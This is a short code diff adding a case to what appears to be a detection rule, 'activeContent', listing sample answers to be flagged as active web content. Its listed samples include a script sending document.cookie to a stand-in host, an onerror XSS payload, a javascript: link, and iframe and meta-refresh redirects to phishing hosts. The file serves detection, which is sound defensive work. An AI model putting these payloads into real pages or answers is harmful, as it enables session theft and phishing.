@@ -24,6 +24,7 @@ export const activeContent: Rule = {
     flags: [
       answer('Done.<script>fetch("https://t.example/?c="+document.cookie)</script>'),
       answer('<img src=x onerror="alert(1)">'),
+      answer('<p id=a></p><script>document.getElementById("a").innerHTML = 1 + 2</script>'),
       answer('[open](javascript:alert(document.domain))'),
       answer('<iframe src="https://login.phish.example/"></iframe>'),
       answer('<meta http-equiv="refresh" content="0; url=https://phish.example/">'),
